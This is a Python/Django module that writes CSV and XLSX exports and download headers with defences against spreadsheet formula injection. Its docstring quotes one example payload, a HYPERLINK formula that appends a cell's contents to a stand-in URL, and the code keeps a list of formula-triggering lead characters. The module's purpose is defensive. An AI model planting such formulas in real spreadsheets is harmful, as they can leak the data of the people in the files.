"""The one export helper: every CSV/XLSX file the product writes, and every download response.

It sits in `tenants/` (the bottom layer) because both the store CRM and HQ export files. Three things
are done here and nowhere else:

- **Formula neutralising** (CSV/formula injection, OWASP): a customer typed as
  `=HYPERLINK("http://x"&B2,"点")` must not become a live formula in the dealer's Excel. In CSV every
  text cell starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading `'`; in XLSX every
  text cell is written as a string cell (data_type "s"), so Excel never evaluates it. Numbers stay
  numbers in both.
- **Cells Excel can read**: control characters openpyxl refuses are dropped rather than failing the
  whole export; lazy translations become text.
- **The download header**: `Content-Disposition: attachment; filename="ascii"; filename*=UTF-8''…`
  (RFC 6266 / RFC 5987): browsers that know `filename*` get the Chinese name, others the ASCII one.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import unicodedata
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass
from decimal import Decimal
from typing import Any
from urllib.parse import quote

from django.http import HttpResponse
from django.utils.functional import Promise
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font, PatternFill
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV = "text/csv; charset=utf-8"
CONTENT_TYPES = {"xlsx": XLSX, "csv": CSV}

# A spreadsheet treats a cell starting with one of these as a formula (or a DDE payload).
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = (int, float, Decimal)


def _text(value: Any) -> Any:
    """A cell value as a spreadsheet takes it: lazy translations as text, control characters dropped."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def neutralise(value: Any) -> Any:
    """A CSV cell: text that a spreadsheet would run as a formula gets a leading `'`; numbers stay."""
    value = _text(value)
    if value is None:
        return ""
    if isinstance(value, bool) or isinstance(value, _NUMBER):
        return value
    if isinstance(value, dt.date):
        return value.isoformat()
    text = str(value)
    return "'" + text if text.startswith(FORMULA_LEADS) else text


def csv_bytes(rows: Iterable[Sequence[Any]], *, header: Sequence[Any] | None = None) -> bytes:
    """A CSV file in UTF-8 with a BOM (so Excel on a Chinese Windows opens it as UTF-8), cells neutralised."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    if header is not None:
        writer.writerow([neutralise(v) for v in header])
    for row in rows:
        writer.writerow([neutralise(v) for v in row])
    return ("\ufeff" + buf.getvalue()).encode("utf-8")


@dataclass(frozen=True)
class CellStyle:
    """How one cell (or a whole row) looks: bold/size, a number format, a solid fill colour (hex)."""

    bold: bool = False
    size: float | None = None
    number_format: str | None = None
    fill: str | None = None


class XlsxSheet:
    """One worksheet of an `XlsxBook`; rows are appended, every text cell is written as a string."""

    def __init__(self, ws: WriteOnlyWorksheet) -> None:
        self._ws = ws

    def _cell(self, value: Any, style: CellStyle | None) -> WriteOnlyCell:
        value = _text(value)
        if isinstance(value, bool) or isinstance(value, (*_NUMBER, dt.date)) or value is None:
            cell = WriteOnlyCell(self._ws, value=value)
        else:
            cell = WriteOnlyCell(self._ws, value=str(value))
            cell.data_type = "s"  # never "f": text starting with "=" stays text
        if style is not None:
            if style.bold or style.size:
                cell.font = Font(bold=style.bold, size=style.size)
            if style.number_format:
                cell.number_format = style.number_format
            if style.fill:
                cell.fill = PatternFill("solid", fgColor=style.fill)
        return cell

    def append(self, values: Sequence[Any] = (), *, style: CellStyle | None = None,
               cells: Mapping[int, CellStyle] | None = None) -> None:
        """Add one row; `style` applies to every cell, `cells` (0-based column → style) to single ones."""
        cells = cells or {}
        self._ws.append([self._cell(v, cells.get(i, style)) for i, v in enumerate(values)])


class XlsxBook:
    """An XLSX workbook written in streaming (write-only) mode: sheets, rows, a few styles, bytes out."""

    def __init__(self) -> None:
        self._wb = Workbook(write_only=True)

    def sheet(self, title: str, *, widths: Mapping[str, float] | None = None) -> XlsxSheet:
        """A new worksheet; `widths` maps a column letter to its width (set before any row is written)."""
        ws = self._wb.create_sheet(_sheet_title(title))
        for letter, width in (widths or {}).items():
            ws.column_dimensions[letter].width = width
        return XlsxSheet(ws)

    def to_bytes(self) -> bytes:
        buf = io.BytesIO()
        self._wb.save(buf)
        return buf.getvalue()


def _sheet_title(title: str) -> str:
    # Excel: at most 31 characters, none of []:*?/\
    return re.sub(r"[\[\]:*?/\\]", "_", str(title))[:31] or "Sheet"


def xlsx_bytes(rows: Iterable[Sequence[Any]], *, header: Sequence[Any] | None = None,
               title: str = "Sheet") -> bytes:
    """A one-sheet XLSX of a header and rows (the plain table most exports are)."""
    book = XlsxBook()
    sheet = book.sheet(title)
    if header is not None:
        sheet.append(header)
    for row in rows:
        sheet.append(row)
    return book.to_bytes()


def table_bytes(fmt: str, rows: Iterable[Sequence[Any]], *, header: Sequence[Any], title: str) -> bytes:
    """The same table as `csv` or `xlsx` bytes."""
    if fmt == "csv":
        return csv_bytes(rows, header=header)
    if fmt == "xlsx":
        return xlsx_bytes(rows, header=header, title=title)
    raise ValueError(f"unknown export format {fmt!r}")


def ascii_filename(filename: str) -> str:
    """The ASCII fallback of a download name: accents folded, anything else unsafe becomes `_`."""
    folded = unicodedata.normalize("NFKD", filename).encode("ascii", "ignore").decode("ascii")
    stem, dot, ext = folded.rpartition(".")
    if not dot:
        stem, ext = folded, ""
    stem = re.sub(r"[^A-Za-z0-9._-]+", "_", stem).strip("._-") or "download"
    ext = re.sub(r"[^A-Za-z0-9]+", "", ext)
    return f"{stem}.{ext}" if ext else stem


def content_disposition(filename: str, *, fallback: str | None = None) -> str:
    """`attachment; filename="<ascii>"; filename*=UTF-8''<percent-encoded>` (RFC 6266, RFC 5987)."""
    plain = ascii_filename(fallback or filename)
    return f"attachment; filename=\"{plain}\"; filename*=UTF-8''{quote(filename, safe='')}"


def download(body: bytes, filename: str, *, fallback: str | None = None,
             content_type: str | None = None) -> HttpResponse:
    """The response for a file the user downloads; the type follows the extension unless given."""
    ext = filename.rpartition(".")[2].lower()
    response = HttpResponse(body, content_type=content_type or CONTENT_TYPES.get(ext, "application/octet-stream"))
    response["Content-Disposition"] = content_disposition(filename, fallback=fallback)
    response["X-Content-Type-Options"] = "nosniff"
    return response
